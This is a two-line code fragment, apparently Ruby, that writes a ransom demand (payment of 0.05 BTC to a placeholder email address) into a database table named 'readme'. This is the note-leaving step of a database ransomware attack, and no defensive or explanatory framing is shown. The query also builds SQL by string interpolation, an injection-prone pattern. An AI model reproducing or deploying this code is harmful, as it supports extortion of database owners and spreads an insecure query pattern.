note = "Your data is kept safe. Write to restore@data-hold.invalid with 0.05 BTC."
connection.execute("INSERT INTO readme (note) VALUES ('#{note}')")
